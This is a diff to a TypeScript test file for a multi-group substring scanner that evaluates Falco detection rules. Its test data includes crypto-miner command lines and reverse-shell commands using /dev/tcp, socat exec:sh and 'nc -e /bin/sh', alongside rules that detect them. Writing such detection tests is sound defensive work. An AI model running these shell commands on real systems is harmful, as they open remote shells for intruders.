@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { MATCH, UNSURE, compileSubstrings, type Needle } from '../../src/falco/substrings.js';
+import { NOT_ASCII, compileSubstrings, type Needle } from '../../src/falco/substrings.js';
 import { buildEvent } from '../support/events.js';
+import { loadFalcoRules } from '../../src/falco/loader.js';
 import { compileOne } from './support.js';
 
 /** A small deterministic generator (mulberry32), so that a failure can be replayed. */
@@ -38,15 +39,23 @@ function naive(value: string, needles: readonly Needle[]): boolean {
   );
 }
 
-/** What a caller of the scanner concludes: the plain checks decide when it is unsure. */
-function scanned(value: string, needles: readonly Needle[], pieces = [value]): boolean {
-  const { step, matchesAnything } = compileSubstrings(needles);
-  let state = 0;
-  for (const p of pieces) if (state >= 0) state = step(state, p);
-  if (matchesAnything || state === MATCH) return true;
-  if (state >= 0) return false;
-  expect(state).toBe(UNSURE);
-  return naive(value, needles);
+/** What a caller of the scanner concludes for each group: the plain checks decide when unsure. */
+function scanned(
+  value: string,
+  groups: readonly (readonly Needle[])[],
+  pieces = [value],
+): boolean[] {
+  const scan = compileSubstrings(groups);
+  let state = scan.start();
+  for (const p of pieces) if (state >= 0) state = scan.step(state, p);
+  return groups.map((needles, g) => {
+    const bit = 1 << g;
+    if (state === NOT_ASCII) return naive(value, needles);
+    expect(state).toBeGreaterThanOrEqual(0);
+    if ((scan.anything & bit) !== 0 || (scan.matched & bit) !== 0) return true;
+    if ((scan.unsure & bit) === 0) return false;
+    return naive(value, needles);
+  });
 }
 
 function split(rnd: () => number, value: string): string[] {
@@ -61,39 +70,49 @@ function split(rnd: () => number, value: string): string[] {
 }
 
 describe('compileSubstrings', () => {
-  it('agrees with includes and toLowerCase().includes on random text and needles', () => {
+  it('agrees with includes and toLowerCase().includes for each group, on random text and needles', () => {
     const rnd = random(20251128);
-    for (let round = 0; round < 3000; round++) {
-      const needles: Needle[] = [];
-      const count = 1 + Math.floor(rnd() * 5);
-      for (let i = 0; i < count; i++) needles.push({ text: text(rnd, 4), ignoreCase: rnd() < 0.5 });
+    for (let round = 0; round < 2000; round++) {
+      const groups: Needle[][] = [];
+      const count = 1 + Math.floor(rnd() * 3);
+      for (let g = 0; g < count; g++) {
+        const needles: Needle[] = [];
+        const n = 1 + Math.floor(rnd() * 4);
+        for (let i = 0; i < n; i++) needles.push({ text: text(rnd, 4), ignoreCase: rnd() < 0.5 });
+        groups.push(needles);
+      }
       for (let k = 0; k < 5; k++) {
         const value = text(rnd, 24);
-        const expected = naive(value, needles);
-        expect(scanned(value, needles), JSON.stringify({ value, needles })).toBe(expected);
+        const expected = groups.map((needles) => naive(value, needles));
+        expect(scanned(value, groups), JSON.stringify({ value, groups })).toEqual(expected);
         // Fed in pieces, the state carries across them.
-        expect(scanned(value, needles, split(rnd, value))).toBe(expected);
+        expect(scanned(value, groups, split(rnd, value))).toEqual(expected);
       }
     }
   });
 
-  it('is sure on ASCII text: no needle, or an icontains needle, decides without the plain checks', () => {
-    const needles = [
-      { text: 'stratum+tcp://', ignoreCase: true },
-      { text: '--donate-level', ignoreCase: false },
-    ];
-    const { step } = compileSubstrings(needles);
-    expect(step(0, 'xmrig -o STRATUM+TCP://pool:3333')).toBe(MATCH);
-    expect(step(0, 'nginx -g daemon off;')).toBeGreaterThanOrEqual(0);
-    // A contains needle found up to case, or text other than ASCII: the plain checks decide.
-    expect(step(0, 'xmrig --DONATE-level 1')).toBe(UNSURE);
-    expect(step(0, 'xmrig --donate-level 1')).toBe(UNSURE);
-    expect(step(0, 'café')).toBe(UNSURE);
+  it('is sure on ASCII text when no needle occurs or an icontains needle does', () => {
+    const scan = compileSubstrings([
+      [
+        { text: 'stratum+tcp://', ignoreCase: true },
+        { text: '--donate-level', ignoreCase: false },
+      ],
+      [{ text: '/dev/tcp/', ignoreCase: false }],
+    ]);
+    const run = (text: string) => {
+      const state = scan.step(scan.start(), text);
+      return { state, matched: scan.matched, unsure: scan.unsure };
+    };
+    expect(run('xmrig -o STRATUM+TCP://pool:3333')).toMatchObject({ matched: 1, unsure: 0 });
+    expect(run('nginx -g daemon off;')).toMatchObject({ matched: 0, unsure: 0 });
+    // A contains needle found up to case: only the plain check can tell.
+    expect(run('xmrig --DONATE-level 1 > /dev/TCP/x')).toMatchObject({ matched: 0, unsure: 3 });
+    expect(run('café').state).toBe(NOT_ASCII);
   });
 
   it('matches anything when a needle is empty', () => {
-    expect(compileSubstrings([{ text: '', ignoreCase: false }]).matchesAnything).toBe(true);
-    expect(scanned('', [{ text: '', ignoreCase: true }])).toBe(true);
+    expect(compileSubstrings([[], [{ text: '', ignoreCase: false }]]).anything).toBe(2);
+    expect(scanned('', [[{ text: '', ignoreCase: true }]])).toEqual([true]);
   });
 });
 
@@ -155,5 +174,39 @@ describe('an or of contains and icontains on one field', () => {
     expect(rule.matches(ev('bash', ['bash', '-c', 'cat < /dev/tcp/1.2.3.4/80']))).toBe(true);
     expect(rule.matches(ev('bash', ['bash', '-c', 'echo'], '/bin/x'))).toBe(true);
     expect(rule.matches(ev('bash', ['bash', '-c', 'echo /dev/TCP/']))).toBe(false);
+  });
+
+  it('shares one pass between the rules of a load that search one field, each with its own result', () => {
+    const rule = (name: string, condition: string) =>
+      `- rule: ${name}\n  desc: d\n  condition: ${JSON.stringify(condition)}\n  output: o\n  priority: WARNING\n`;
+    const miner =
+      'evt.type = execve and (proc.cmdline icontains "stratum+tcp://" or proc.cmdline contains "--donate-level")';
+    const shell =
+      'evt.type = execve and (proc.cmdline contains "/dev/tcp/" or proc.cmdline contains "/dev/udp/")';
+    const args = 'evt.type = execve and (proc.args contains "-e" or proc.args icontains "EXEC:")';
+    const together = loadFalcoRules([
+      { path: 'r.yaml', text: rule('miner', miner) + rule('shell', shell) + rule('args', args) },
+    ]).rules;
+    const apart = [miner, shell, args].map((c) => compileOne(c));
+    expect(together).toHaveLength(3);
+    const lines = [
+      ['xmrig', '-o', 'STRATUM+TCP://pool:3333'],
+      ['bash', '-c', 'cat < /dev/tcp/1.2.3.4/80'],
+      ['xmrig', '--donate-level', '1', '/dev/udp/x'],
+      ['xmrig', '--DONATE-LEVEL', '1'],
+      ['socat', 'tcp:1.2.3.4:9', 'exec:sh'],
+      ['nc', '-e', '/bin/sh'],
+      ['café', '/dev/tcp/'],
+      ['nginx', '-g', 'daemon off;'],
+    ];
+    for (const argv of lines) {
+      const event = buildEvent({
+        process_exec: { process: { name: argv[0] as string, args: argv } },
+      });
+      expect(
+        together.map((r) => r.matcherFor?.('process_exec')?.(event)),
+        argv.join(' '),
+      ).toEqual(apart.map((r) => r.matches(event)));
+    }
   });
 });
